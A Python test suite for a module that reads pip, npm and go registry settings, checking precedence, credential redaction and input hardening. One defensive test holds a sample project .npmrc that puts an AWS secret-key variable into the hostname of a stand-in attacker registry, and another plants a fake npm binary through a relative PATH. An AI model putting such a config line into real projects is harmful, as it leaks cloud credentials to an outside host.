"""Reading pip's, npm's and the go command's configuration as each client reads it."""

from __future__ import annotations

import os
from pathlib import Path

from buildcell.build.registries import Source, go_sources, npm_sources, pip_sources

INDEX = "https://pypi.example.internal/simple"


def _home(tmp_path: Path) -> Path:
    home = tmp_path / "home"
    home.mkdir()
    return home


def _write(path: Path, text: str) -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(text)
    return path


def _pip(tmp_path: Path, environ: dict[str, str]) -> tuple[tuple[Source, ...], tuple[str, ...]]:
    """pip's sources with an empty system tree and site prefix below ``tmp_path``."""
    system = tmp_path / "system"
    system.mkdir(exist_ok=True)
    found = pip_sources(environ, system_root=system, python_prefix=system / "prefix")
    return found.found, found.notes


# --- pip -----------------------------------------------------------------------------------


def test_pip_index_from_the_environment(tmp_path: Path) -> None:
    found, notes = _pip(tmp_path, {"PIP_INDEX_URL": INDEX})
    assert found == (Source(INDEX, "index-url", "PIP_INDEX_URL", "pypi.example.internal:443"),)
    assert notes == ()


def test_pip_conf_in_home_and_xdg_config_home(tmp_path: Path) -> None:
    home = _home(tmp_path)
    _write(home / ".config/pip/pip.conf", f"[global]\nindex-url = {INDEX}\n")
    (found,), _ = _pip(tmp_path, {"HOME": str(home)})
    assert (found.url, found.allow) == (INDEX, "pypi.example.internal:443")
    assert found.origin == str(home / ".config/pip/pip.conf")

    xdg = tmp_path / "xdg"
    _write(
        xdg / "pip/pip.conf",
        "[global]\nindex-url = https://mirror.example.internal:8443/simple\n"
        "[wheel]\nextra-index-url = http://extra.example.internal/simple\n",
    )
    found_xdg, _ = _pip(tmp_path, {"HOME": str(home), "XDG_CONFIG_HOME": str(xdg)})
    # XDG_CONFIG_HOME replaces ~/.config; the [wheel] section adds to [global].
    assert [(s.setting, s.allow) for s in found_xdg] == [
        ("index-url", "mirror.example.internal:8443"),
        ("extra-index-url", "extra.example.internal:80"),
    ]


def test_pip_precedence_legacy_file_then_xdg_then_environment(tmp_path: Path) -> None:
    home = _home(tmp_path)
    _write(home / ".pip/pip.conf", "[global]\nindex-url = https://old.example.internal/simple\n")
    (found,), _ = _pip(tmp_path, {"HOME": str(home)})
    assert found.allow == "old.example.internal:443"
    _write(home / ".config/pip/pip.conf", f"[global]\nindex-url = {INDEX}\n")
    (found,), _ = _pip(tmp_path, {"HOME": str(home)})
    assert found.allow == "pypi.example.internal:443"
    env = {"HOME": str(home), "PIP_INDEX_URL": "https://env.example.internal/simple"}
    (found,), _ = _pip(tmp_path, env)
    assert (found.allow, found.origin) == ("env.example.internal:443", "PIP_INDEX_URL")


def test_pip_system_file_and_devnull(tmp_path: Path) -> None:
    _write(tmp_path / "system/etc/pip.conf", f"[global]\nindex-url = {INDEX}\n")
    (found,), _ = _pip(tmp_path, {})
    assert found.origin == str(tmp_path / "system/etc/pip.conf")
    # PIP_CONFIG_FILE=os.devnull: pip reads no file at all.
    assert _pip(tmp_path, {"PIP_CONFIG_FILE": os.devnull}) == ((), ())


def test_pip_no_index_keeps_find_links_only(tmp_path: Path) -> None:
    env = {
        "PIP_INDEX_URL": INDEX,
        "PIP_NO_INDEX": "1",
        "PIP_FIND_LINKS": "https://wheels.example.internal/ /srv/wheels",
    }
    found, notes = _pip(tmp_path, env)
    assert [(s.setting, s.allow) for s in found] == [("find-links", "wheels.example.internal:443")]
    (note,) = notes
    assert "/srv/wheels is a local path" in note


def test_pip_credentials_never_leave_the_module(tmp_path: Path) -> None:
    raw = "https://user:s3cr3t-token@pypi.example.internal/simple?token=q1w2e3#frag"
    (found,), _ = _pip(tmp_path, {"PIP_INDEX_URL": raw})
    assert found.credentials
    assert found.url == INDEX
    assert "s3cr3t" not in repr(found) and "q1w2e3" not in repr(found)
    # A URL that is left out is named without its credentials too.
    _, (note,) = _pip(tmp_path, {"PIP_INDEX_URL": "ftp://user:s3cr3t@files.example.internal/x"})
    assert "s3cr3t" not in note and "files.example.internal/x" in note


def test_pip_config_that_is_not_a_regular_file_is_not_read(tmp_path: Path) -> None:
    home = _home(tmp_path)
    (home / ".config/pip").mkdir(parents=True)
    os.mkfifo(home / ".config/pip/pip.conf")  # opening it for reading would block
    assert _pip(tmp_path, {"HOME": str(home)}) == ((), ())


def test_pip_unparsable_and_unprintable_values_are_notes(tmp_path: Path) -> None:
    home = _home(tmp_path)
    _write(home / ".config/pip/pip.conf", "index-url = no section\n")
    found, (note,) = _pip(tmp_path, {"HOME": str(home)})
    assert found == () and "cannot parse" in note
    found, (note,) = _pip(tmp_path, {"PIP_INDEX_URL": "https://a.example.internal/\x1b[2J"})
    assert found == () and "not a printable URL" in note and "\x1b" not in note


def test_pip_huge_config_is_read_only_in_part(tmp_path: Path) -> None:
    home = _home(tmp_path)
    filler = "# " + "x" * 1000 + "\n"
    text = (
        f"[global]\nindex-url = {INDEX}\n"
        + filler * 2048
        + "[wheel]\nindex-url = http://late.example.internal/\n"
    )
    _write(home / ".config/pip/pip.conf", text)
    (found,), _ = _pip(tmp_path, {"HOME": str(home)})
    assert found.allow == "pypi.example.internal:443"  # the [wheel] section is past the cap


# --- npm -----------------------------------------------------------------------------------


def test_npm_registry_from_the_environment_and_npmrc(tmp_path: Path) -> None:
    home = _home(tmp_path)
    _write(
        home / ".npmrc",
        '; comment\nregistry = "https://npm.example.internal/"\n'
        "@corp:registry=https://corp.example.internal:8443/npm/\n"
        "//npm.example.internal/:_authToken=npm_SECRETTOKEN\n",
    )
    found = npm_sources({"HOME": str(home)}).found
    assert [(s.setting, s.allow, s.origin) for s in found] == [
        ("registry", "npm.example.internal:443", str(home / ".npmrc")),
        ("@corp:registry", "corp.example.internal:8443", str(home / ".npmrc")),
    ]
    assert "SECRETTOKEN" not in repr(found)
    env = {"HOME": str(home), "NPM_CONFIG_REGISTRY": "https://env.example.internal/"}
    main = npm_sources(env).by_setting("registry")
    assert [(s.allow, s.origin) for s in main] == [
        ("env.example.internal:443", "NPM_CONFIG_REGISTRY")
    ]


def test_npm_userconfig_and_variables_in_host_files(tmp_path: Path) -> None:
    rc = _write(tmp_path / "user.npmrc", "registry=https://${NPM_HOST}/\n")
    env = {"npm_config_userconfig": str(rc), "NPM_HOST": "npm.example.internal"}
    (found,) = npm_sources(env).found
    assert found.allow == "npm.example.internal:443"
    # An unset variable without `?` makes npm drop the value; so is it here.
    assert npm_sources({"npm_config_userconfig": str(rc)}).found == ()


def test_npm_project_npmrc_never_takes_values_from_this_host(tmp_path: Path) -> None:
    """A checkout's .npmrc naming ${VAR} must not carry this host's secrets into the spec."""
    env = {"HOME": str(_home(tmp_path)), "AWS_SECRET_ACCESS_KEY": "wJalrXUtnFEMI"}
    project = (
        "registry=https://${AWS_SECRET_ACCESS_KEY}.attacker.example.internal/\n"
        "@x:registry=https://npm.example.internal/${AWS_SECRET_ACCESS_KEY?}/\n"
    )
    found = npm_sources(env, project_npmrc=project)
    assert found.found == ()
    assert len(found.notes) == 2 and all("not replaced" in n for n in found.notes)
    assert "wJalrXUtnFEMI" not in repr(found)


def test_npm_credentials_in_a_registry_url(tmp_path: Path) -> None:
    env = {"npm_config_registry": "https://me:hunter2@npm.example.internal/"}
    (found,) = npm_sources(env).found
    assert found.credentials and found.url == "https://npm.example.internal/"
    assert "hunter2" not in repr(found)


def test_npm_relative_path_entries_are_not_searched(tmp_path: Path) -> None:
    """PATH=.: a project's own `npm` must not choose which builtin npmrc is read."""
    fake = tmp_path / "lib/npm"
    _write(fake / "npmrc", "registry=https://planted.example.internal/\n")
    _write(fake / "bin/npm", "#!/bin/sh\n").chmod(0o755)
    os.symlink(fake / "bin/npm", tmp_path / "npm")
    cwd = os.getcwd()
    os.chdir(tmp_path)
    try:
        assert npm_sources({"PATH": "."}).found == ()
        # The same layout on an absolute PATH entry is npm's own install: read.
        (found,) = npm_sources({"PATH": str(tmp_path)}).found
    finally:
        os.chdir(cwd)
    assert found.origin == str(fake / "npmrc")


# --- go ------------------------------------------------------------------------------------


def test_go_proxy_from_the_environment_and_go_env_file(tmp_path: Path) -> None:
    found = go_sources({"GOPROXY": "https://goproxy.example.internal,direct"})
    assert [s.allow for s in found.found] == ["goproxy.example.internal:443"]
    assert any("direct" in n for n in found.notes)
    home = _home(tmp_path)
    _write(home / ".config/go/env", "GOPROXY=https://go.example.internal:8080|off\n")
    (source,) = go_sources({"HOME": str(home)}).found
    assert (source.allow, source.origin) == (
        "go.example.internal:8080",
        str(home / ".config/go/env"),
    )
    assert go_sources({"HOME": str(home), "GOENV": "off"}).found == ()
    assert go_sources({}).found == ()
